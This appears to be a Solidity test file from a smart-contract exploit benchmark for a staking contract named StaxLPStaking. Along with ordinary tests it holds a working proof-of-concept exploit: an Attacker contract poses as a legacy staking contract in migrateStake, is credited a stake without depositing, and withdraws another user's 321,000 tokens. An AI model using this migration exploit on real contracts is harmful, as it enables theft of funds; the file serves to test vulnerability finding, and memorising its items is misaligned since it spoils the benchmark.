// SPDX-License-Identifier: AGPL-3.0-or-later
pragma solidity 0.6.12;

import "./StaxLPStaking.sol";

// assay-canary-942fb52f-ed9e-4d2b-87c5-8aa848aa0b7a

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is IERC20 {
    address private minter = msg.sender;
    bool public silent;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function quieten() external {
        require(msg.sender == minter, "minter only");
        silent = true;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external override returns (bool) {
        if (silent) return false;
        require(balanceOf[msg.sender] >= amount, "balance");
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        if (silent) return false;
        require(balanceOf[from] >= amount && allowance[from][msg.sender] >= amount, "allowance");
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);

    Token internal xlp;
    Token internal temple;
    StaxLPStaking internal old;
    StaxLPStaking internal staking;
    Attacker internal thief;

    function setUp() public {
        xlp = new Token();
        temple = new Token();
        old = new StaxLPStaking(xlp, temple);
        staking = new StaxLPStaking(xlp, temple);
        old.setMigrator(address(staking));
        staking.setLegacyStaking(address(old));
        staking.setRewardDistributor(address(this));
        old.setRewardDistributor(address(this));
        temple.mint(address(this), 1_000e18);
        temple.approve(address(staking), 1_000e18);
        put(staking, ANA, 321_000e18);
        put(old, BEN, 100e18);
        thief = new Attacker(staking);
    }

    function put(StaxLPStaking where, address who, uint256 amount) internal {
        xlp.mint(who, amount);
        vm.startPrank(who);
        xlp.approve(address(where), amount);
        where.stake(amount);
        vm.stopPrank();
    }

    function test_Regular() public {
        vm.prank(BEN);
        staking.migrateStake(address(old), 60e18);
        require(staking.balanceOf(BEN) == 60e18 && old.balanceOf(BEN) == 40e18, "migrated");
        require(xlp.balanceOf(address(staking)) == 321_060e18, "with the tokens");
        vm.prank(ANA);
        staking.withdraw(321_000e18 - 40e18, true);
        require(xlp.balanceOf(ANA) == 321_000e18 - 40e18, "withdrawn");
        staking.notifyRewardAmount(1_000e18);
        vm.prank(BEN);
        staking.getReward();
        require(temple.balanceOf(BEN) == 600e18, "reward");
        vm.prank(ANA);
        staking.withdraw(40e18, true);
        require(temple.balanceOf(ANA) == 400e18, "reward on the way out");
        staking.setMigrator(address(1));
        old.setMigrator(address(this));
        old.migrateWithdraw(BEN, 40e18);
        require(xlp.balanceOf(address(this)) == 40e18 && old.totalSupply() == 0, "to the next version");
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert("only the owner can set the migrator");
        staking.setMigrator(ANA);
        vm.expectRevert("only the owner can set the legacy contract");
        staking.setLegacyStaking(ANA);
        vm.expectRevert("only the owner can set the distributor");
        staking.setRewardDistributor(ANA);
        vm.expectRevert("only the distributor can bring rewards");
        staking.notifyRewardAmount(0);
        vm.expectRevert("only the migrator can move stakes");
        old.migrateWithdraw(BEN, 1);
        vm.stopPrank();
    }

    function test_RefusesAmounts() public {
        vm.startPrank(BEN);
        vm.expectRevert("the stake is smaller");
        old.withdraw(101e18, false);
        vm.expectRevert("there is nothing to stake");
        old.stake(0);
        old.withdraw(100e18, false);
        vm.stopPrank();
        vm.expectRevert("there is no stake to reward");
        old.notifyRewardAmount(1);
    }

    function test_RefusesWhatDoesNotMove() public {
        xlp.quieten();
        temple.quieten();
        vm.expectRevert("the reward did not come in");
        staking.notifyRewardAmount(1);
        vm.startPrank(ANA);
        vm.expectRevert("the stake did not come in");
        staking.stake(1);
        vm.expectRevert("the stake did not go out");
        staking.withdraw(1, false);
        vm.expectRevert("the reward did not go out");
        staking.getReward();
        vm.stopPrank();
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        exploit();
        require(xlp.balanceOf(address(thief)) >= 321_000e18, "nothing gained");
    }

    function asset() public view returns (address) {
        return address(xlp);
    }

    function target() public view returns (address) {
        return address(staking);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Takes the place of the version before, and sends nothing.
contract Attacker {
    StaxLPStaking internal staking;

    constructor(StaxLPStaking staking_) public {
        staking = staking_;
    }

    function migrateWithdraw(address, uint256) external {}

    function run() external {
        staking.migrateStake(address(this), 321_000e18);
        staking.withdraw(321_000e18, false);
    }
}
